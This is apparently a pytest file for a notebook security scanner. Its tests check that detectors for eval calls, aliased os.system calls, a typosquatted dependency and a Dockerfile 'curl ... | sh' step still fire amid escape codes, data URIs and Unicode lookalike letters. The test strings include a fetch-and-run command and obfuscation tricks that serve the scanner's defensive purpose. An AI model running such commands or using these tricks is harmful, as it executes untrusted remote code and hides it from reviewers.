"""Code detectors in whole documents: nothing that stands beside code takes it out of their sight."""

from __future__ import annotations

import json
from typing import Any

import pytest

from llmsec_nb.api import check_text
from llmsec_nb.core.finding import Finding

from .samples import Maker
from .test_notebook import code, notebook

URI = "data:image/gif;base64,R0lGODlhAQABAAAAACw="


def findings(*cells: str, **metadata: Any) -> list[Finding]:
    tree = notebook(*(code(source) for source in cells)) | {"metadata": metadata}
    return [f for f in check_text(json.dumps(tree), "a.ipynb").findings if f.rule[:3] == "COD"]


@pytest.mark.parametrize("extra", ["\x1b[0m", URI, "é \u202e", "﻿", Maker(3).token("SEC103")])
@pytest.mark.parametrize("place", ["before", "after", "comment", "string"])
def test_what_stands_beside_hides_no_call(extra: str, place: str) -> None:
    call = "eval(x)"
    source = {
        "before": f"# {extra}\n{call}",
        "after": f"{call}\n# {extra}",
        "comment": f"{call}  # {extra}",
        "string": f"s = {extra!r}; {call}" if "\x1b" not in extra else f"s = '{extra}'; {call}",
    }[place]
    (finding,) = findings(source)
    place_ = finding.location
    line = source.split("\n")[place_.line]
    assert (finding.rule, line[place_.column : place_.end_column]) == ("COD021", call)


def test_names_of_a_cell_with_an_image_reach_the_next() -> None:
    (finding,) = findings(f"from os import system as run  # {URI}", "run(cmd)")
    assert (finding.rule, finding.location.cell) == ("COD023", 1)  # type: ignore[union-attr]  # it is in a cell


@pytest.mark.parametrize("name", ["a.py", "requirements.txt", "Dockerfile"])
@pytest.mark.parametrize("extra", ["", "# \x1b[0m\n", f"# {URI}\n"])
def test_files(name: str, extra: str) -> None:
    content = {
        "a.py": "eval(x)\n",
        "requirements.txt": "reqeusts==1.0\n",
        "Dockerfile": "FROM a@sha256:0\nRUN curl https://x.example/i | sh\n",
    }[name]
    expected = {"a.py": "COD021", "requirements.txt": "DEP004", "Dockerfile": "DEP012"}[name]
    assert [f.rule for f in check_text(extra + content, name).findings] == [expected]


def test_letters_that_python_takes_for_others() -> None:
    (finding,) = findings("𝕖𝕧𝕒𝕝(zz)")
    assert (finding.rule, finding.location.end_column) == ("COD021", 8)


def test_the_order_in_which_cells_ran_counts_too() -> None:
    cells = [
        code("run(x)", execution_count=2),
        code("from os import system as run", execution_count=1),
    ]
    report = check_text(json.dumps(notebook(*cells)), "a.ipynb")
    assert [f.rule for f in report.findings] == ["COD023"]
    cells = [code("run(x)"), code("from os import system as run")]
    assert check_text(json.dumps(notebook(*cells)), "a.ipynb").findings == ()


def test_a_written_file_has_names_of_its_own() -> None:
    brought = "from os import system as run"
    assert [f.rule for f in findings(f"%%writefile b.py\n{brought}\nrun(x)")] == ["COD023"]
    assert findings(brought, "%%writefile b.py\nrun(x)") == []
    assert findings(f"%%writefile b.py\n{brought}", "run(x)") == []


def test_a_defect_in_reading_code_hides_no_secret(monkeypatch: pytest.MonkeyPatch) -> None:
    def broken() -> None:
        raise KeyError

    monkeypatch.setattr("llmsec_nb.engine.code_screen", broken)
    token = Maker(3).token("SEC103")
    report = check_text(json.dumps(notebook(code(f"t = '{token}'\neval(x)"))), "a.ipynb")
    assert [f.rule for f in report.findings] == ["SEC103"]
    (failure,) = report.failures
    assert failure.message.startswith("the reader of code stopped with KeyError")
